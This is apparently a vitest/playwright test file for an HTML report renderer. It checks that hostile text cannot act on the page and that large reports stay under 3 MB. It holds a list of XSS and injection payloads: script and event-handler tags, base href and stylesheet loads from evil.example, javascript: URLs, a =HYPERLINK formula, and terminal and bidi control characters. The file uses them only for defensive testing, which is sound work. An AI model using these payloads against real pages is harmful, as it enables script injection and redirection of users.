// Can anything that was captured act on the page? And does the page stay light however much was found?

import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ReportFinding } from "../../src/core/report.ts";
import { renderHtml } from "../../src/report/html/html.ts";
import { FINDING, madeUpReport, withEveryText } from "../report/made-up-report.ts";
import { chromiumPath, launch, open, why } from "./browser.ts";
import { madeUpPicture, madeUpPictures } from "./made-up-pictures.ts";

const ATTACKS = [
  `"><script>window.hit = 1</script><img src=x onerror="window.hit = 1"><svg onload="window.hit = 1"></svg>`,
  `' autofocus onfocus='window.hit=1' x='`,
  `</style><style>@import url(https://evil.example/x.css); body { display: none }</style>`,
  `</title></head></main></details></article><base href="https://evil.example/"><h1>another page</h1>`,
  `</script><script>window.hit = 1</script><!-- <script>`,
  `<iframe srcdoc="<script>parent.hit = 1</script>"></iframe><form action="https://evil.example"><input name=a></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel=stylesheet href=https://evil.example/x>`,
  `javascript:window.hit=1 &#x3c;script&#x3e; &lt;script&gt;`,
  `=HYPERLINK("https://evil.example","x") [x](javascript:window.hit=1) \u001b]8;;https://evil.example\u0007`,
  `\u202egnp.exe\u2066\u0000 \r\n <b>`,
];

describe.runIf(chromiumPath !== null)(`a hostile capture in a browser${why}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
  });

  const skeleton = () => {
    const tags: Record<string, number> = {};
    for (const e of document.querySelectorAll("*")) {
      tags[e.tagName] = (tags[e.tagName] ?? 0) + 1;
      for (const { name } of e.attributes) if (/^on|^style$/i.test(name)) tags[name] = (tags[name] ?? 0) + 1;
    }
    return tags;
  };

  it("leaves the page as it is, whatever stands in every text of the report and the pictures", async () => {
    const clean = await open(browser, await renderHtml(madeUpReport(), madeUpPictures()));
    const expected = await clean.page.evaluate(skeleton);
    // Times and numbers that became texts are no `time` elements, and no bars of a timeline, any more.
    for (const attack of ATTACKS) {
      const report = withEveryText(madeUpReport(), attack);
      const { page, complaints, requests } = await open(browser, await renderHtml(report, madeUpPictures(attack)));
      await page.locator("#open-all").click();
      expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
      expect([complaints, requests]).toEqual([[], []]);
      const tags = await page.evaluate(skeleton);
      for (const [tag, n] of Object.entries(tags))
        expect([attack, tag, n <= (expected[tag] ?? 0)]).toEqual([attack, tag, true]);
      const words = await page.evaluate(() => document.body.innerText);
      for (const char of "\u0000\u001b\u0007\u202e\u2066") expect(words).not.toContain(char);
      expect(await page.locator("h1").isVisible()).toBe(true);
      await page.context().close();
    }
    await clean.page.context().close();
  });

  it("the policy holds even where markup got in: no script, handler, style or load of another's runs", async () => {
    const html = await renderHtml(madeUpReport(), []);
    const smuggled = `<script>window.hit = 1</script><img src="https://evil.example/x.png" onerror="window.hit = 1">
      <img src="data:image/png;base64,AAAA" onerror="window.hit = 1"><p id="styled" style="color: rgb(1, 2, 3)">x</p>
      <a id="link" href="javascript:window.hit=1">x</a><button id="press" onclick="window.hit = 1">x</button>
      <form id="form" action="https://evil.example/"><input name="a"></form><iframe src="https://evil.example/"></iframe>
      <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`;
    const { page } = await open(
      browser,
      html.replace("<main>", () => `<main>${smuggled}`),
    );
    await page.locator("#press").click();
    await page.locator("#link").click();
    const before = page.url();
    await page.evaluate(() => {
      const late = document.createElement("script");
      late.textContent = "window.hit = 1";
      document.body.append(late);
      (document.getElementById("form") as HTMLFormElement).requestSubmit();
    });
    await page.waitForTimeout(200);
    expect(page.url()).toBe(before);
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
    expect(await page.evaluate(() => getComputedStyle(document.getElementById("styled")!).color)).toBe(
      "rgb(27, 31, 36)",
    );
    expect(await page.evaluate(() => document.baseURI)).toBe(before);
    await page.context().close();
  });

  it("2,000 findings and pictures beyond measure: loads, scrolls, searches", async () => {
    const html = await renderHtml(large(), [madeUpPicture("states", null), ...many()]);
    const { page, complaints } = await open(browser, html);
    expect(complaints).toEqual([]);
    const height = await page.evaluate(() => document.documentElement.scrollHeight);
    expect(height).toBeGreaterThan(20_000);
    await page.evaluate((to) => scrollTo({ top: to, behavior: "instant" }), height);
    expect(await page.locator("#reproduce").isVisible()).toBe(true);
    await page.getByLabel("Find", { exact: true }).fill("number 567:");
    expect(await page.locator(".finding:visible").count()).toBe(1);
    await page.context().close();
  });
});

/** What a capture of 200,000 connections may come to. */
function large() {
  const finding = (i: number): ReportFinding => ({
    ...FINDING,
    id: `unanswered-requests#${i + 1}`,
    title: `number ${i}: 192.0.2.7:8280 did not answer`,
    summary: `${FINDING.summary} `.repeat(20),
    advice: Array.from({ length: 20 }, (_, n) => `advice ${n} ${"and so on ".repeat(30)}`),
    timeline: Array.from({ length: 1000 }, (_, n) => n % 7),
  });
  const base = madeUpReport();
  const findings = Array.from({ length: 2000 }, (_, i) => finding(i));
  const link = base.topology.calls[1]!;
  return madeUpReport({
    findings: [...findings, ...base.findings.slice(2), ...findings.map((f) => ({ ...f, severity: "info" as const }))],
    totals: { ...base.totals, flows: 200_000 },
    captures: Array.from({ length: 1000 }, (_, i) => ({ ...base.captures[0]!, path: `day/capture-${i}.pcap` })),
    topology: { links: 5000, calls: Array.from({ length: 5000 }, () => link) },
    diagnosis: {
      ...base.diagnosis,
      chain: findings.map((f) => ({ finding: f.id, role: "symptom" as const, at: f.onset, text: f.title })),
      ruled_out: Array.from({ length: 5000 }, () => ({ what: "loss ".repeat(50), because: "none ".repeat(50) })),
    },
    clear: Array.from({ length: 5000 }, () => ({ analysis: "late-answers", because: "none ".repeat(50) })),
    unsure: Array.from({ length: 5000 }, () => ({ analysis: "late-answers", needs: "more ".repeat(50) })),
  });
}

const many = () =>
  Array.from({ length: 6 }, (_, i) => {
    const picture = madeUpPicture("ladder", `unanswered-requests#${i + 1}`);
    return { ...picture, svg: picture.svg.replace("</svg>", `${"<path d='M0,0h9'/>\n".repeat(30_000)}</svg>`) };
  });

it("is under 3 MB however much there is, and says what it left out", async () => {
  const report = large();
  const html = await renderHtml(report, [madeUpPicture("states", null), ...many()]);
  expect(Buffer.byteLength(html)).toBeLessThan(3_000_000);
  // 60 at most in full; 2,000 in all.
  const full = html.match(/<article /g)!.length;
  const short = html.match(/<tr class="finding"/g)!.length;
  const [, counted] = /and ([\d,]+) more, in the JSON<\/p>/.exec(html.slice(html.indexOf("More findings, in short")))!;
  expect(full + short + Number(counted!.replace(",", ""))).toBe(2000);
  expect(html).toContain("of them not shown");
  expect(html.match(/Left out, for the page would be too large/g)?.length).toBeGreaterThan(3);
});

it("is under 3 MB with texts of 100,000 and more characters each, in characters that take most room", async () => {
  for (const text of [
    "&'\"<>".repeat(20_000),
    "\u0001".repeat(100_000),
    "語".repeat(100_000),
    "\u{1f600}".repeat(100_000),
  ]) {
    const html = await renderHtml(withEveryText(madeUpReport(), text), []);
    expect(Buffer.byteLength(html)).toBeLessThan(3_000_000);
  }
});
